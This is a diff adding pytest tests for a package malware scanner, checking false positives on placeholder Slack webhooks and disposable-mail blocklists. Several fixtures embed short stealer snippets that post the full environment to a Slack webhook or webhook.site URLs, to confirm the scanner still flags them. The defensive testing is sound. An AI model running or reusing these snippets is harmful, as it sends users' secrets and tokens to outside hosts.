@@ -1,0 +1,118 @@
+"""Shapes of popular releases that cried wolf on the tune-only corpora of round 9
+(``popular-extra-6`` and ``popular-extra-7``), read as what they are (no project names), each
+beside its malicious twin that must stay high:
+
+* a webhook URL whose path is a document's placeholder (``services/YOUR/WEBHOOK/URL``) posts
+  nowhere; a real Slack webhook (workspace id first) stays an endpoint;
+* a request catcher named as one bare host in a table of host names (a disposable-mail
+  blocklist) is compared with, not sent to; the same host as a URL code posts to stays high.
+"""
+
+from __future__ import annotations
+
+from app.core.archive import open_artifact
+from app.core.capabilities.scan import scan_artifact
+from tests.core.archive.fixtures import make_wheel
+
+HIGH = ("high", "critical")
+
+
+def _wheel(tmp_path, files, name="gizmo"):
+    return scan_artifact(open_artifact(make_wheel(tmp_path, name=name, files=files)))
+
+
+def _ids(res) -> set[str]:
+    return {t.id for t in res.threats if t.severity in HIGH}
+
+
+# ------------------------------------------------------------- placeholder webhook URLs
+
+README_EXAMPLE = b'''"""Client for a no-code database.
+
+Example::
+
+    client.create_webhook(
+        event="after.insert",
+        url="https://hooks.slack.com/services/YOUR/WEBHOOK/URL",
+    )
+"""
+
+HELP = "Paste your incoming webhook, e.g. https://hooks.slack.com/services/XXXX/YYYY/ZZZZ"
+'''
+
+
+def test_a_placeholder_slack_webhook_in_an_example_is_no_endpoint(tmp_path):
+    """A client library documents its webhook API with Slack's placeholder path: a real
+    webhook starts with the workspace id (``T`` and capitals), a placeholder does not."""
+    res = _wheel(tmp_path, {"gizmo/__init__.py": README_EXAMPLE, "gizmo/hooks.py": README_EXAMPLE})
+    assert not [h for h in res.findings if h.capability == "net.exfil_endpoint"]
+    assert "chain.exfil_endpoint" not in _ids(res)
+    assert res.risk.level not in HIGH
+
+
+def test_a_real_slack_webhook_that_code_posts_to_stays_high(tmp_path):
+    stealer = (
+        b"import json, os, urllib.request\n"
+        b"URL = 'https://hooks.slack.com/services/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'\n"
+        b"def report():\n"
+        b"    body = json.dumps({'text': repr(dict(os.environ))}).encode()\n"
+        b"    urllib.request.urlopen(URL, data=body)\n"
+        b"report()\n"
+    )
+    res = _wheel(tmp_path, {"gizmo/__init__.py": stealer})
+    assert "chain.exfil_endpoint" in _ids(res) or "chain.exfiltration" in _ids(res)
+    assert res.risk.level in HIGH
+
+
+# ------------------------------------------------------------------ tables of host names
+
+
+def _blocklist(extra: str) -> bytes:
+    domains = [f"mail{i}.example.com" for i in range(60)] + [extra] + ["temp-mail.org"]
+    body = ",".join(f'"{d}"' for d in domains)
+    return (
+        b"import re\n\n\nclass Checker(object):\n"
+        b"    blocklist = {" + body.encode() + b"}\n\n"
+        b"    @classmethod\n"
+        b"    def is_disposable(cls, email):\n"
+        b"        domain = email.split('@')[-1].lower()\n"
+        b"        return domain in cls.blocklist\n"
+    )
+
+
+def test_a_request_catcher_in_a_disposable_mail_blocklist_is_data(tmp_path):
+    """A class attribute holding hundreds of disposable-mail domains names ``webhook.site``
+    as one of them: the module compares addresses with the table and sends nothing."""
+    res = _wheel(tmp_path, {"gizmo/__init__.py": _blocklist("webhook.site")})
+    ends = [h for h in res.findings if h.capability == "net.exfil_endpoint"]
+    assert ends and all(h.severity == "low" for h in ends)  # still shown
+    assert "chain.exfil_endpoint" not in _ids(res)
+    assert res.risk.level not in HIGH
+
+
+def test_a_request_catcher_url_in_a_list_that_code_posts_to_stays_high(tmp_path):
+    """The twin: the catcher as a URL with its bin id, taken from a list and posted to. A
+    list of URLs is no table of host names."""
+    urls = ",".join(f'"https://mirror{i}.example.invalid/upload"' for i in range(25))
+    stealer = (
+        b"import os, random, urllib.request\n"
+        b"TARGETS = ["
+        + urls.encode()
+        + b', "https://webhook.site/2f9b7a5c-1d2e-4f3a-8b9c-0d1e2f3a4b5c"]\n'
+        b"for url in TARGETS:\n"
+        b"    urllib.request.urlopen(url, data=repr(dict(os.environ)).encode())\n"
+    )
+    res = _wheel(tmp_path, {"gizmo/__init__.py": stealer})
+    assert {"chain.exfil_endpoint", "chain.exfiltration"} & _ids(res)
+    assert res.risk.level in HIGH
+
+
+def test_a_bare_catcher_host_alone_that_code_builds_a_url_from_stays_high(tmp_path):
+    """A bare host kept alone (not one entry of a table of hosts) is still an endpoint."""
+    stealer = (
+        b"import os, urllib.request\n"
+        b"HOST = 'webhook.site'\n"
+        b"urllib.request.urlopen('https://' + HOST + '/2f9b7a5c', data=repr(dict(os.environ)).encode())\n"
+    )
+    res = _wheel(tmp_path, {"gizmo/__init__.py": stealer})
+    assert res.risk.level in HIGH
